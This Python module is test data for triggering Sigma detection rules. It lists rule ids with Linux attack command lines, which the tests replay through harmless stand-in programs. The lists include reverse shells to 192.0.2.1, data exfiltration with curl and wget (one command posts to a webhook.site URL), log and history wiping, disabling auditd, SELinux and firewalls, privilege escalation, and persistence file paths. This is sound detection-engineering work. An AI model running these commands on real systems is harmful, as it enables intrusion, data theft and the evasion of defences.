"""What is done to fire each of Sigma's rules: harmless, for the programs do nothing.

A rule is named by the first eight digits of its id. The programs are copies of ``true``, of
``touch`` and of the tests' own doer under the names that rules are about; nothing of the system is
changed, and nothing connects to anywhere but an address of our own.
"""

from __future__ import annotations

RAN = """
bb382fd5 apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
d2d642d7 at now
bed26dea auditctl -D
36388120 systemctl stop kesl
8c1a5675 gawk 'BEGIN {system("/bin/sh")}'
e2072cab base64 -d file
ba592c6d bash -c 'echo aGk= | base64 -d | sh'
fe2f9663 echo IyEvYmluL2Jhc2g=
6104e693 bash -i file
7692f583 sh -c 'echo 1 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable'
f8341cb2 bpftrace --unsafe file
3a716279 setcap cap_setgid+ep file
ed447910 setcap cap_setuid+ep file
d8d97d51 getcap -r /srv
db1ac3be capsh --
34979410 chattr -i file
6419afd1 chmod 700 /opt/thing
f2bed782 sudo --chroot /srv id
80915f59 rm -f /var/log/auth.log
3fcc9b35 truncate -s 0 /var/log/syslog
ec127035 xclip -sel clip -o
fa4aaed5 cp /tmp/shadow file
403ed92c crontab -l
c2e234de crontab -r
9069ea3c miner -o pool.example.org --nicehash
ea34fb97 curl --version
a2d9e2f3 sh -c '/usr/bin/curl -o /tmp/file http://192.0.2.1/file'
4cad6c64 dd if=file of=/proc/1/mem
84c9e83c ufw disable
067d8238 doas id
bed978f8 env /bin/sh
33e814e0 esxcli network ip interface list
9691f58d esxcli system permission set --role Admin eve
f41dada5 esxcli storage filesystem list
38eb1dbb esxcli system syslog config set
e80273e1 esxcli system version get
b28e4eb3 esxcli system account add -i eve
5f1573a7 esxcli vm process list
2992ac4d esxcli vm process kill
d54c2f06 esxcli vsan cluster get
d3feb4ee tree
30aed7b6 shred file
6adfbf8f find . -exec /bin/sh ;
4b09c71e flock -u / /bin/sh
9b5de532 gcc -wrapper /bin/sh,-s .
d27ab432 grep x86_64
8a46f16c groupdel eve
78a80655 update-ca-certificates --fresh
700fb7e8 apt install nmap
3be619f4 iptables -F ufw-logging-deny
b45e3d6f lastlog
676381a6 groups
e34cfa0c grep apached
9d779ce8 mkfifo pipe
999c3b12 mkfifo /tmp/pipe
ec52985a mount -o remount,rw,hidepid=2 /proc
7f734ed0 nc -e /bin/sh 192.0.2.1 4444
093d68c7 nice /bin/sh
e4ffe466 nohup job
457df417 nohup /tmp/job
259df6bc perl -e 'use Socket; connect(); open(); exec()'
c6714a24 php -r 'fsockopen(); exec("sh")'
97de11cd pnscan -W '41 42 43' file
72f4ab3f env http_proxy=http://192.0.2.1 job
d7a650c4 trufflehog filesystem .
55e862a8 python3 -c 'import base64; base64.b64decode()'
3f0f5957 python3 -m http.server
c4042d54 python3 -c 'import pty; pty.spawn()'
32e62bc7 python3 -c 'import pty, socket; s.connect(); pty.spawn()'
2d2f44ff python3 -c 'import os; os.system("/bin/sh")'
11063ec2 arp -a
95d61234 yum remove thing
e2326866 rsync -e /bin/sh 192.0.2.1:file
b8bdac18 ruby -e 'require rsocket; TCPSocket.new; exec sh'
6b14bac8 crontab /tmp/jobs
c9d8b7fd grep falcond
e3a8a052 setenforce 0
de25eeb8 systemctl stop auditd.service
c21c4eaa sh -c 'chown root file; chmod u+s file'
8737b7f6 ssh -o 'ProxyCommand=;sh 0<&2 1>&2' nobody
f9b3edc5 amazon-ssm-agent -register -code a -id b -region c
746c86fb cat /proc/2/status
00b90cc1 curl --data file http://192.0.2.1/
b86d356d curl -A agent http://192.0.2.1/
11701de9 ls /.dockerenv
8344c0e5 find / -perm -4000
cfec9d29 git clone https://example.org/CVE-2021-4034
1182f3b3 rm /root/.bash_history
d7821ff1 cat /root/.bash_history
a015e032 nikto -h
43e26eb5 ls -id /
3e102cd9 nmap -sS 192.0.2.1
880973f3 sh -c 'echo id | sh'
0f79c4d2 cat /etc/sudoers
0cf7a157 find / -name .htpasswd
86157017 sed -i s/a/b/ /etc/hosts
30bcce26 bash -c /tmp/job
42df45e7 uptime
4c519226 netstat -a
e7bd1cfa ifconfig
c172b7b5 systemctl mask suspend.target
31545105 touch -t 202001010000 thing.service
0326c3c8 sudo execve_hijack
22236d75 sudo tc qdisc add dev enp0s3 clsact
08f26069 userdel eve
6a50f16c usermod -aG root eve
7ab8f73a vim -c ':!/bin/sh'
cf610c15 wget -O /tmp/file http://192.0.2.1/file
4e25af4b xterm -display 192.0.2.1:1
071d5e5a worker --cpu-priority=5
0a23a62d curl http://sfrclak.com/file
11bb9b26 node Shai-Hulud
1543ae20 chmod 777 file
214e7e6c xclip -selection clipboard -o
23835beb wget --no-check-certificate https://192.0.2.1/file.tar
2625cc59 systemctl restart thing
2dad0cba split file
323ff3f5 nft flush ruleset
33b3cfb1 sysctl fs.suid_dumpable=2
36603778 tar -czf tpcp.tar.gz payload.enc session.key.enc
37222991 dd if=/dev/zero of=file
3c6f5e4a bun run tanstack_runner.js
45810b50 cat a.jpg b.zip
474b415a modprobe 'crypto-authencesn(x)'
4cb57c2f shutdown -h now
4e2f5868 pstree
60911c07 openssl s_client -quiet -connect 192.0.2.1:443
60d050c4 wget https://temp.sh/file.zip
64c41342 pkill thing
70b4156e iptables -t nat -A PREROUTING --to-ports 42
74c01ace chown eve file
759d0d51 useradd eve
9a0d8ca0 whoami
9d4548fa cp /bin/sh here/crond
a3b5e3e9 zip file
a5a827d9 steghide extract -sf a.jpg
a5b977d6 chattr -i file
a7af2487 arecord -vv -fdat file
b3cec4e7 touch -d yesterday file
c52a914f truncate -s 0 file
cb39d16b wget --post-file=file http://192.0.2.1/
ce446a9e steghide embed -cf a.jpg -ef file
d08722cd mkdir .hidden
dbe4b9c5 import -window root a.png
df3fcaea grep password file
e2f17c5d xwd -root -out a.xwd
e497a24e sysctl -w kernel.randomize_va_space=0
eae8ce9f cat .bash_history
edd595d7 unzip a.jpg
efd2eb09 curl -d file https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
f200dc3f xclip -sel clip -t image/png -o
f34047d9 lsmod
f4d3748a tcpdump -c 5 -i
f6a711f3 BarracudaMailService
f74107df sudo -u#-1 id
fe10751f getcap -r /
ca94a6db passwd -S
"""
"""A program that does nothing, with these arguments."""

BORE = """
1f6b8cd4 TeamViewer_Service : TeamViewer_Desktop --IPCport 5939 --Module 1
297241f3 rsync : sh -c job
d292e0af java : curl http://192.0.2.1/
f0025a69 node : trufflehog filesystem .
818f7b24 nginx : whoami
eb827bbd node : bun bun_environment.js
f8987c03 java note confluence : curl http://192.0.2.1/
c70834fa node note start-server.js : id
"""
"""A program that starts one that does nothing."""

WROTE = """
00eee2a5 touch HERE/etc/doas.conf
ddb26b76 touch /etc/sudoers.d/eve
6c4e2f43 touch /etc/cron.d/eve
179b3686 touch 'HERE/a{echo,aGk=}'
13f08f54 touch HERE/etc/profile.d/eve.sh
c0239255 touch /tmp/rootlog
1a2ea919 touch HERE/ebpfbackdoor
35a05c60 wget /tmp/file
0785f462 touch HERE/mail/tmp/abc123.tar.gz
0aba5685 touch HERE/.github/workflows/shai-hulud.yml
10ac0730 touch HERE/etc/nsswitch.conf
11629c4d touch HERE/a-name-of-more-than-one-hundred-letters-is-what-some-programs-hide-their-arguments-in-so-it-is-told-to-people
1bac86ba touch /etc/systemd/system/eve.service
2b5e4d3f touch HERE/tanstack_runner.js
49aae26c touch /etc/pam.d/system-auth
4b3cb710 touch /etc/ld.so.preload
5627c337 touch HERE/autoins
5b91409c touch HERE/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/work/eve.jsp
81c0b7f5 python3 HERE/.config/sysmon/sysmon.py
977ef627 touch /etc/audit/rules
9e1bef8d touch HERE/.hidden
a94cdd87 touch /etc/profile
b7cb840c curl /tmp/ld.py
c830f15d touch /etc/rsyslog.conf
ea61bb82 touch HERE/sysctl.conf
fb96c26c touch HERE/lib/python3.11/site-packages/eve.pth
"""  # noqa: E501 - a long name is what one of them is about
"""A program that creates a file: below a folder of ours, or on a file system of its own that is
mounted, for it alone, where the rule wants it."""
